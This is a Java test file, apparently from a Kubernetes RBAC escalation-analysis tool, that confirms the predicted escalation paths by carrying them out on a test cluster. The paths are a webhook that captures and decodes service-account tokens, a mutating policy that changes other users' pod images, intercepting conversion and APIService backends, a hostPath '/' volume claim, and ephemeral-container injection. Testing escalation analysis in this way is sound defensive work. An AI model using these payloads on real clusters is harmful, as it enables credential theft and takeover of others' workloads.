@@ -1,0 +1,248 @@
+package dev.kubeuser.rbac.escalation;
+
+import static dev.kubeuser.assertion.KubeAssertions.assertThat;
+import static dev.kubeuser.kinds.Kind.EMBEDDED;
+import static dev.kubeuser.kinds.Kind.EXISTING;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.google.gson.JsonElement;
+import com.google.gson.JsonObject;
+import com.google.gson.JsonParser;
+import dev.kubeuser.KubeAdmin;
+import dev.kubeuser.KubeUser;
+import dev.kubeuser.access.KubeAccess;
+import dev.kubeuser.apply.AppliedManifests;
+import dev.kubeuser.cluster.Cluster;
+import dev.kubeuser.kinds.RunsOn;
+import dev.kubeuser.manifest.Manifests;
+import java.io.IOException;
+import java.time.Duration;
+import java.util.Base64;
+import java.util.Optional;
+import org.awaitility.Awaitility;
+import org.awaitility.core.ConditionFactory;
+import org.junit.jupiter.api.AutoClose;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+
+/** Who gets between others and the API server, or into their pods: gone on a real API server, which has no kubelet. */
+class WalkedDiversionTest {
+
+    private static final String BECAUSE = "the API server has to reach a server on the test's loopback";
+    private static final Walk WALK = new Walk("escalation/diversions.yaml");
+    private static final String GOAL = "ClusterRole diversions-goal";
+    private static final String ADMISSION = "/apis/admissionregistration.k8s.io/v1/";
+    private static final String NAMESPACE = "/api/v1/namespaces/walked-diversions/";
+    private static final String SELECTOR = """
+            {"matchLabels": {"kubernetes.io/metadata.name": "walked-diversions"}}""";
+
+    @AutoClose
+    static AppliedManifests policy;
+
+    @KubeAdmin
+    private KubeAccess admin;
+
+    @BeforeAll
+    static void there_is_a_policy(@KubeAdmin KubeAccess admin) {
+        policy = AppliedManifests.apply(Manifests.load("classpath:" + WALK.policy()), admin);
+    }
+
+    private static ConditionFactory eventually() {
+        return Awaitility.await().atMost(Duration.ofSeconds(30));
+    }
+
+    private static String pod(String name, String volumes) {
+        return """
+                {"metadata": {"name": "%s"},
+                 "spec": {"serviceAccountName": "robot", "containers": [{"name": "c", "image": "i"}]%s}}""".formatted(name, volumes);
+    }
+
+    @Test
+    void a_policy_changes_the_pods_of_others(@KubeUser("injector") KubeAccess user) {
+        assertThat(WALK.way(user, GOAL, Certainty.LIKELY)).containsExactly(Technique.MUTATING_ADMISSION);
+        try {
+            assertThat(user.request("POST", ADMISSION + "mutatingadmissionpolicies", """
+                    {"metadata": {"name": "walked"}, "spec": {
+                      "reinvocationPolicy": "Never",
+                      "matchConstraints": {"namespaceSelector": %s, "resourceRules": [
+                        {"apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"], "operations": ["CREATE"]}]},
+                      "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression":
+                        "[JSONPatch{op: 'replace', path: '/spec/containers/0/image', value: 'injected'}]"}}]}}""".formatted(SELECTOR)))
+                    .hasStatus(201);
+            assertThat(user.request(
+                            "POST",
+                            ADMISSION + "mutatingadmissionpolicybindings",
+                            "{\"metadata\": {\"name\": \"walked\"}, \"spec\": {\"policyName\": \"walked\"}}"))
+                    .hasStatus(201);
+            eventually()
+                    .untilAsserted(() -> assertThat(
+                                    admin.request("POST", NAMESPACE + "pods?dryRun=All", pod("victim", ""))
+                                            .body())
+                            .contains("injected"));
+        } finally {
+            admin.request("DELETE", ADMISSION + "mutatingadmissionpolicybindings/walked", null);
+            admin.request("DELETE", ADMISSION + "mutatingadmissionpolicies/walked", null);
+        }
+    }
+
+    private static String allow(String review) {
+        String uid = JsonParser.parseString(review)
+                .getAsJsonObject()
+                .getAsJsonObject("request")
+                .get("uid")
+                .getAsString();
+        return """
+                {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
+                 "response": {"uid": "%s", "allowed": true}}""".formatted(uid);
+    }
+
+    /** The controller that fills a Secret with a token is one of the others. */
+    @RunsOn(
+            value = {EMBEDDED, EXISTING},
+            because = BECAUSE)
+    @Test
+    void a_webhook_is_sent_the_Secrets_of_others(@KubeUser("listener") KubeAccess user, Cluster cluster)
+            throws IOException {
+        assertThat(WALK.way(user, GOAL, Certainty.LIKELY)).isEmpty();
+        assertThat(WALK.way(user, GOAL, Certainty.DEPENDS)).containsExactly(Technique.VALIDATING_WEBHOOK);
+        try (DivertedServer server = new DivertedServer(WalkedDiversionTest::allow)) {
+            assertThat(user.request("POST", ADMISSION + "validatingwebhookconfigurations", """
+                    {"metadata": {"name": "walked"}, "webhooks": [{"name": "walked.example.test",
+                      "clientConfig": %s, "namespaceSelector": %s, "sideEffects": "None", "failurePolicy": "Ignore",
+                      "admissionReviewVersions": ["v1"], "rules": [{"apiGroups": [""], "apiVersions": ["v1"],
+                        "resources": ["secrets"], "operations": ["CREATE", "UPDATE"]}]}]}""".formatted(
+                                    server.clientConfig(), SELECTOR)))
+                    .hasStatus(201);
+            eventually().until(() -> tokenSecret().flatMap(made -> sent(server)).isPresent());
+            try (KubeAccess robot = Walk.with(cluster, sent(server).orElseThrow())) {
+                assertThat(Walk.whoIs(robot)).contains("system:serviceaccount:walked-diversions:robot");
+            }
+        } finally {
+            admin.request("DELETE", ADMISSION + "validatingwebhookconfigurations/walked", null);
+        }
+    }
+
+    private Optional<String> tokenSecret() {
+        return Optional.of(admin.request("POST", NAMESPACE + "secrets", """
+                        {"metadata": {"generateName": "token-",
+                          "annotations": {"kubernetes.io/service-account.name": "robot"}},
+                         "type": "kubernetes.io/service-account-token"}""")).map(made -> made.body());
+    }
+
+    private static Optional<String> sent(DivertedServer server) {
+        return server.received().stream()
+                .map(body -> body.replaceFirst("^[^{]*", ""))
+                .map(body -> JsonParser.parseString(body).getAsJsonObject().getAsJsonObject("request"))
+                .map(request -> request.getAsJsonObject("object").getAsJsonObject("data"))
+                .filter(data -> data != null && data.has("token"))
+                .map(data ->
+                        new String(Base64.getDecoder().decode(data.get("token").getAsString())))
+                .findFirst();
+    }
+
+    private static String convert(String review) {
+        JsonObject request = JsonParser.parseString(review).getAsJsonObject().getAsJsonObject("request");
+        for (JsonElement object : request.getAsJsonArray("objects")) {
+            object.getAsJsonObject().add("apiVersion", request.get("desiredAPIVersion"));
+            object.getAsJsonObject().addProperty("told", "by the converter");
+        }
+        return """
+                {"apiVersion": "apiextensions.k8s.io/v1", "kind": "ConversionReview", "response":
+                  {"uid": %s, "result": {"status": "Success"}, "convertedObjects": %s}}""".formatted(request.get("uid"), request.get("objects"));
+    }
+
+    @RunsOn(
+            value = {EMBEDDED, EXISTING},
+            because = BECAUSE)
+    @Test
+    void a_conversion_changes_the_custom_resources_of_others(@KubeUser("converter") KubeAccess user)
+            throws IOException {
+        assertThat(WALK.way(user, GOAL, Certainty.DEPENDS)).containsExactly(Technique.CONVERSION_WEBHOOK);
+        String things = "/apis/diversions.example.test/v2/namespaces/walked-diversions/things";
+        eventually()
+                .untilAsserted(
+                        () -> assertThat(admin.request("POST", things, """
+                        {"apiVersion": "diversions.example.test/v2", "kind": "Thing", "metadata": {"name": "one"},
+                         "told": "by the administrator"}""")).hasStatus(201));
+        try (DivertedServer server = new DivertedServer(WalkedDiversionTest::convert)) {
+            assertThat(Walk.merge(
+                            user,
+                            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/things.diversions.example.test",
+                            """
+                            {"spec": {"conversion": {"strategy": "Webhook", "webhook":
+                              {"clientConfig": %s, "conversionReviewVersions": ["v1"]}}}}""".formatted(server.clientConfig())))
+                    .isOk();
+            eventually()
+                    .untilAsserted(() -> assertThat(admin.get(things.replace("v2", "v1") + "/one")
+                                    .body())
+                            .contains("by the converter"));
+            assertThat(server.received()).anyMatch(body -> body.contains("by the administrator"));
+        }
+    }
+
+    @RunsOn(
+            value = {EMBEDDED, EXISTING},
+            because = BECAUSE)
+    @Test
+    void an_APIService_answers_others(@KubeUser("server") KubeAccess user) throws IOException {
+        assertThat(WALK.way(user, GOAL, Certainty.DEPENDS)).containsExactly(Technique.API_SERVICE);
+        String name = "v1.walked.example.test";
+        try (DivertedServer server = new DivertedServer(unused -> "{\"told\": \"by the server\"}")) {
+            assertThat(user.request("POST", NAMESPACE + "services", """
+                    {"metadata": {"name": "diverted"}, "spec": {"type": "ExternalName", "externalName": "localhost"}}""")).hasStatus(201);
+            assertThat(user.request(
+                            "POST", "/apis/apiregistration.k8s.io/v1/apiservices", """
+                    {"metadata": {"name": "%s"}, "spec": {"group": "walked.example.test", "version": "v1",
+                      "groupPriorityMinimum": 1, "versionPriority": 1, "insecureSkipTLSVerify": true,
+                      "service": {"namespace": "walked-diversions", "name": "diverted", "port": %d}}}""".formatted(name, server.port())))
+                    .hasStatus(201);
+            eventually()
+                    .untilAsserted(() -> assertThat(admin.get("/apis/walked.example.test/v1/things")
+                                    .body())
+                            .contains("by the server"));
+            assertThat(server.received()).anyMatch(body -> body.contains("/v1/things of " + admin.name()));
+        } finally {
+            admin.request("DELETE", "/apis/apiregistration.k8s.io/v1/apiservices/" + name, null);
+        }
+    }
+
+    /** Pod Security lets the claim in, behind which is the node's file system. */
+    @Test
+    void a_volume_mounts_the_node(@KubeUser("mounter") KubeAccess user) {
+        assertThat(WALK.way(user, GOAL, Certainty.LIKELY, Technique.WORKLOAD)).containsExactly(Technique.HOST_VOLUME);
+        assertThat(user.request("POST", "/api/v1/persistentvolumes?dryRun=All", """
+                {"metadata": {"name": "walked"}, "spec": {"capacity": {"storage": "1Gi"},
+                  "accessModes": ["ReadWriteOnce"], "storageClassName": "walked", "hostPath": {"path": "/"}}}"""))
+                .hasStatus(201);
+        assertThat(user.request("POST", NAMESPACE + "pods?dryRun=All", pod("mounter", """
+                , "volumes": [{"name": "node", "ephemeral": {"volumeClaimTemplate": {"spec": {
+                  "accessModes": ["ReadWriteOnce"], "storageClassName": "walked",
+                  "resources": {"requests": {"storage": "1Gi"}}}}}}]""")))
+                .hasStatus(201);
+        assertThat(user.request("POST", NAMESPACE + "pods?dryRun=All", pod("mounter", """
+                , "volumes": [{"name": "node", "hostPath": {"path": "/"}}]""")))
+                .isForbidden();
+    }
+
+    @Test
+    void a_pod_that_is_there_gets_another_image_or_container(
+            @KubeUser("image-changer") KubeAccess changer, @KubeUser("container-adder") KubeAccess adder) {
+        assertThat(WALK.way(changer, GOAL, Certainty.LIKELY)).containsExactly(Technique.POD_ACCESS);
+        assertThat(WALK.way(adder, GOAL, Certainty.LIKELY)).containsExactly(Technique.POD_ACCESS);
+        assertThat(admin.request("POST", NAMESPACE + "pods", pod("entered", "")))
+                .hasStatus(201);
+        assertThat(Walk.patch(
+                        changer,
+                        "application/strategic-merge-patch+json",
+                        NAMESPACE + "pods/entered",
+                        "{\"spec\": {\"containers\": [{\"name\": \"c\", \"image\": \"another\"}]}}"))
+                .isOk();
+        assertThat(Walk.patch(
+                        adder,
+                        "application/strategic-merge-patch+json",
+                        NAMESPACE + "pods/entered/ephemeralcontainers",
+                        "{\"spec\": {\"ephemeralContainers\": [{\"name\": \"added\", \"image\": \"another\"}]}}"))
+                .isOk();
+        assertThat(admin.get(NAMESPACE + "pods/entered").body()).contains("\"another\"", "\"added\"");
+    }
+}
